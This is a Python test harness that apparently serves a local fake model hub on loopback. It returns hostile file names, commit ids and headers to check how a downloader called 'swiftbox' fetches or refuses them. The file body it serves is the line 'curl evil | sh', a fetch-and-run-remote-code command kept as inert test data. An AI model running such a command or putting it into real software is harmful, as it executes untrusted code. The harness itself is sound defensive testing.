"""A hub on loopback whose names are hostile: any text as commit, hash, file name, id or header.

`swiftbox` reads them through the SDKs of both hubs. Run as a program it downloads from such hubs
and prints what came of each text: `python hostile_hub.py COUNT` for the first COUNT texts of a
kind, 0 for all.
"""

from __future__ import annotations

import contextlib
import hashlib
import json
import sys
import threading
import uuid
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass, field, replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import unquote

from hostile_texts import KINDS

COMMIT = "0123456789abcdef0123456789abcdef01234567"
EVIL = b"curl evil | sh\n"
BLOB = hashlib.sha1(b"blob %d\0" % len(EVIL) + EVIL).hexdigest()
SHA256 = hashlib.sha256(EVIL).hexdigest()

Value = str | int | None | list[str]


@dataclass
class Names:
    """What the hub says; each may be hostile."""

    path: Value = "config.json"
    commit: Value = COMMIT
    blob: Value = BLOB
    sha256: Value = SHA256
    id: Value = "o/n"
    branch: Value = "main"
    header: str = "x"
    """ETag, X-Repo-Commit, X-Linked-Etag and the name in Content-Disposition."""


@dataclass
class HostileHub:
    """The address of the hub, and what it says now."""

    names: Names = field(default_factory=Names)
    address: str = ""


@contextlib.contextmanager
def hostile_hub() -> Iterator[HostileHub]:
    """Serve until the block ends."""
    hub = HostileHub()
    server = ThreadingHTTPServer(("127.0.0.1", 0), type("Bound", (Handler,), {"hub": hub}))
    server.daemon_threads = True
    hub.address = f"http://127.0.0.1:{server.server_port}"
    thread = threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True)
    thread.start()
    try:
        yield hub
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    hub: HostileHub

    def log_message(self, *_: object) -> None:
        pass

    def do_HEAD(self) -> None:
        self.do_GET()

    def do_GET(self) -> None:
        names, path = self.hub.names, unquote(self.path.partition("?")[0])
        if path.startswith("/api/v1/") and path.endswith(("/repo/files", "/repo/tree")):
            self.answer({"Code": 200, "Success": True, "Data": {"Files": [self.row(names)]}})
        elif path.startswith("/api/v1/") and path.endswith("/revisions"):
            branch = {"Revision": names.branch, "CreatedAt": 1}
            branches = {"RevisionMap": {"Branches": [branch], "Tags": []}}
            self.answer({"Code": 200, "Success": True, "Data": branches})
        elif path.startswith("/api/v1/") and path.endswith("/repo"):
            self.send(EVIL)
        elif path.startswith("/api/v1/"):
            self.answer({"Code": 200, "Success": True, "Data": {"Name": names.id, "Id": 1}})
        elif path.startswith("/api/"):
            row = {"rfilename": names.path, "size": len(EVIL), "blobId": names.blob}
            lfs = {"sha256": names.sha256, "size": len(EVIL), "pointerSize": 130}
            siblings = [{**row, "lfs": lfs}, {**row, "rfilename": "small.txt"}]
            self.answer({"id": names.id, "sha": names.commit, "siblings": siblings, "tags": []})
        else:
            self.send(EVIL)

    def row(self, names: Names) -> dict[str, Any]:
        return {
            "Path": names.path,
            "Name": names.path,
            "Type": "blob",
            "Size": len(EVIL),
            "Sha256": names.sha256,
            "Revision": names.commit,
            "CommittedDate": 1700000000,
        }

    def answer(self, content: Any) -> None:
        self.send(json.dumps(content).encode())

    def send(self, body: bytes) -> None:
        self.send_response(200)
        header = self.hub.names.header.encode("latin-1", "replace").decode("latin-1")
        header = "".join(letter for letter in header if letter not in "\r\n\0")
        for name in ("ETag", "X-Linked-Etag", "X-Repo-Commit"):
            self.send_header(name, header)
        self.send_header("Content-Disposition", f"attachment; filename={header}")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(body)


FIELDS = ("path", "commit", "blob", "sha256", "id", "branch", "header")
REQUESTED = ("revision", "model", "dataset", "subfolder")
"""What a config or an adapter can say in its place."""


def download_all(count: int, work: Path) -> Counter[str]:
    """Download with each hostile text in each place from both hubs; count how each ended."""
    from functools import partial

    from swiftbox.errors import UserError
    from swiftbox.hub import transfer

    transfer.retry = partial(transfer.retry, sleep=lambda _: None)  # type: ignore[attr-defined]
    outcomes: Counter[str] = Counter()
    with hostile_hub() as hub:
        for place in (*FIELDS, *REQUESTED):
            for kind, texts in KINDS.items():
                for hostile in texts[: count or None]:
                    for request in _requests(place, hostile, hub, work):
                        try:
                            request()
                            outcomes[f"{place} {kind} fetched"] += 1
                        except UserError as error:
                            outcomes[f"{place} {kind} refused"] += 1
                            outcomes["all without hint"] += not error.hint
    outcomes["all hidden"] = sum(
        path.name.startswith(".") and path.name != ".swiftbox-verified.json"
        for path in (work / "models").rglob("*")
    )
    return outcomes


def _requests(place: str, hostile: str, hub: HostileHub, work: Path) -> Iterator[Any]:
    from swiftbox.hub.download import download
    from swiftbox.models.download_request import parse_request

    hub.names = replace(Names(), **{place: hostile}) if place in FIELDS else Names()
    name = {"model": hostile, "dataset": hostile, "subfolder": f"o/n:{hostile}"}.get(place, "o/n")
    kind = "dataset" if place == "dataset" else "model"
    revision = hostile if place == "revision" else None
    for hub_name in ("modelscope", "huggingface"):
        for local_dir in (None, work / "models" / uuid.uuid4().hex):

            def request(hub_name: str = hub_name, local_dir: Path | None = local_dir) -> None:
                settings: dict[str, Any] = {"kind": kind, "hub": hub_name, "revision": revision}
                settings |= {"endpoints": (hub.address,), "local_dir": local_dir}
                download(parse_request(name, **settings))

            yield request


if __name__ == "__main__":
    print(json.dumps(download_all(int(sys.argv[1]), Path(sys.argv[2]))))
